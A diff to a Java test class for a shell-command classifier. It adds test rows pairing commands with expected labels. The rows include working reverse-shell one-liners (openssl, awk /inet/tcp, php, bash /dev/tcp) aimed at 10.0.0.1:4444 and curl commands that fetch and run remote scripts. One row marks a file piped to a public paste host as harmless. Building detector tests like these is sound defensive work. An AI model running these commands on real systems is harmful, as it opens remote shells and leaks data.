@@ -56,6 +56,8 @@ class ExecutionRuleTest {
               "ruby -e \"$(curl -fsSL https://example.com/install.rb)\"",
               "INTERPRETER_INLINE_CODE,PIPE_TO_SHELL"),
           row("python3 < <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
+          row("python3 <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
+          row("curl -s https://example.com/i.sh > /tmp/i.sh; bash /tmp/i.sh", "PIPE_TO_SHELL"),
           row(
               "curl -s https://example.com/x.py | python3 -c 'import sys; exec(sys.stdin.read())'",
               "INTERPRETER_INLINE_CODE,PIPE_TO_SHELL"),
@@ -110,6 +112,15 @@ class ExecutionRuleTest {
               "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
               "REVERSE_SHELL"),
           row("nc -l 4444 | bash", "REVERSE_SHELL"),
+          row(
+              "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect"
+                  + " 10.0.0.1:4444 > /tmp/s",
+              "REVERSE_SHELL"),
+          row(
+              "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s;"
+                  + " s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } }"
+                  + " while(c != \"exit\") close(s); }}' /dev/null",
+              "REVERSE_SHELL"),
           row(PY_REVERSE, "INTERPRETER_INLINE_CODE,REVERSE_SHELL"),
           row(
               "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
@@ -185,7 +196,14 @@ class ExecutionRuleTest {
           row("python3 manage.py migrate", ""),
           row("node server.js", ""),
           row("sha256sum install.sh", ""),
-          row("diff <(sort a.txt) <(sort b.txt)", ""));
+          row("diff <(sort a.txt) <(sort b.txt)", ""),
+          row(
+              "gawk 'BEGIN { s = \"/inet/tcp/0/example.com/80\"; print \"GET /\" |& s;"
+                  + " s |& getline line; print line }'",
+              ""),
+          row("curl -s https://example.com/data.json > data.json; jq . data.json", ""),
+          row("sh < /tmp/s | nc 10.0.0.1 4444", "UNKNOWN_COMMAND"),
+          row("cat notes.txt | nc termbin.com 9999", ""));
 
   static Stream<Arguments> table() {
     return ROWS.stream().map(r -> Arguments.of(r[0], r[1]));
